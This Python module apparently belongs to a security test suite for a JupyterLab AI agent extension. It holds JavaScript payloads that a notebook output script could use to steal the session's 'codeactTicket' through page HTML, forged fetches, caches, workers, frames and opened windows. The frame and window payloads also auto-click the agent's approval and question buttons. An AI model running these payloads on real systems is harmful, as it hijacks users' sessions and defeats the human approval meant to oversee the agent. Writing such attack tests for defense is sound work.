"""What a script in an output may try in order to get a page of its own that answers for the person.

Each is JavaScript, with `ask` as in `acting`. What it finds of a ticket, it spends on a socket of its own.
"""

from __future__ import annotations

from .acting import OWN_SOCKET, WORD

SPEND = f"""const ticketIn = text => (text?.match(/codeactTicket"\\s*:\\s*"([^"]+)/) ?? [])[1];
    const pause = time => new Promise(done => setTimeout(done, time));
    const spend = async text => {{
        if (!ticketIn(text)) return;
        window.ticketsFound = (window.ticketsFound ?? 0) + 1;
        {OWN_SOCKET.replace("PLACE", "person")}
        say({{type: 'claim', secret: 'y'.repeat(64), ticket: ticketIn(text)}}); say({WORD});
    }};
    const configOf = where => where.document?.getElementById('jupyter-config-data')?.textContent;
    const watch = async (where, time = 4000) => {{
        for (const until = Date.now() + time; Date.now() < until; await pause(5))
            try {{ await spend(configOf(where())); }} catch {{ /* it is not there, or out of reach */ }}
    }};
"""
PAGES = (
    "[location.href, `${ask.base}lab`, `${ask.base}lab?reset`, `${ask.base}lab/tree/${ask.path}`]"
)
PRESSES = """() => {
    for (const each of where()?.document?.querySelectorAll(
        '.codeact-Approval button, .jp-codeact-Question button') ?? []) each.click();
}"""

REACHING = {
    "the ticket of this page": f"""{SPEND} await spend(document.documentElement.outerHTML);
        await spend(configOf(window));
        await spend(JSON.stringify(Object.values(window).filter(each => typeof each === 'string')))""",
    "the HTML of a new page": f"""{SPEND} for (const page of {PAGES})
        await spend(await (await fetch(page, {{credentials: 'same-origin'}})).text())""",
    "the HTML, with headers of a browser": f"""{SPEND} const headers = {{'Sec-Fetch-Dest': 'document',
        'sec-fetch-mode': 'navigate', 'Sec-Fetch-User': '?1', Authorization: `token ${{ask.token}}`}};
        for (const page of {PAGES}) for (const mode of ['cors', 'same-origin', 'no-cors'])
            await spend(await (await fetch(page, {{headers, mode}})).text())""",
    "the HTML by XMLHttpRequest": f"""{SPEND} const request = new XMLHttpRequest();
        request.open('GET', location.href, false);
        try {{ request.setRequestHeader('Sec-Fetch-Dest', 'document'); }} catch {{ /* refused */ }}
        request.send(); await spend(request.responseText)""",
    "the HTML that the browser keeps": f"""{SPEND} for (const page of {PAGES})
        for (const cache of ['force-cache', 'only-if-cached'])
            try {{ await spend(await (await fetch(page, {{cache, mode: 'same-origin'}})).text()); }}
            catch {{ /* it keeps none */ }}
        for (const name of await caches?.keys() ?? []) for (const kept of await (await caches.open(name)).keys())
            await spend(await (await caches.match(kept)).text())""",
    "the HTML by a worker": f"""{SPEND} const code = `fetch('${{location.href}}').then(a => a.text()).then(postMessage)`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        await spend(await new Promise(done => {{
            worker.onmessage = each => done(each.data); setTimeout(() => done(''), 2000); }}))""",
    "the HTML, loaded ahead": f"""{SPEND} for (const rel of ['preload', 'prefetch', 'prerender', 'modulepreload'])
        for (const as of ['document', 'fetch', 'script']) {{
            const link = document.createElement('link');
            Object.assign(link, {{rel, href: location.href}}); link.setAttribute('as', as);
            document.head.append(link); setTimeout(() => link.remove(), 2000);
        }}
        const rules = document.createElement('script'); rules.type = 'speculationrules';
        rules.text = JSON.stringify(Object.fromEntries(['prefetch', 'prerender'].map(kind =>
            [kind, [{{source: 'list', urls: [location.href]}}]])));
        document.head.append(rules); await pause(1000);
        for (const cache of ['default', 'force-cache'])
            await spend(await (await fetch(location.href, {{cache, credentials: 'include'}})).text())""",
    "a new page in a frame": f"""{SPEND} for (const kind of ['iframe', 'embed', 'object']) {{
            const frame = document.createElement(kind);
            frame[kind === 'object' ? 'data' : 'src'] = location.href; document.body.append(frame);
            const where = () => frame.contentWindow ?? frame.getSVGDocument?.()?.defaultView;
            const pressing = setInterval({PRESSES}, 50);
            await watch(where, 1200); clearInterval(pressing); frame.remove();
        }}""",
    "a new page in a window": f"""{SPEND} const opened = open(`${{ask.base}}lab?reset`, 'codeact-window');
        window.openedPages = [...(window.openedPages ?? []), opened];
        const where = () => opened; const pressing = setInterval({PRESSES}, 50);
        await watch(where); clearInterval(pressing)""",
    "a new page in a window that was there": f"""{SPEND} const opened = open('', 'codeact-other');
        window.openedPages = [...(window.openedPages ?? []), opened];
        opened.location = `${{ask.base}}lab?reset`; const where = () => opened;
        const pressing = setInterval({PRESSES}, 50); await watch(where); clearInterval(pressing)""",
    "the page that opened this one": f"""{SPEND} const found = window.opener;
        const word = {{...{WORD}}}; if (found) {{ await spend(configOf(found)); }}
        new BroadcastChannel('codeact').postMessage(word); localStorage.setItem('codeact', JSON.stringify(word));
        localStorage.removeItem('codeact')""",
}
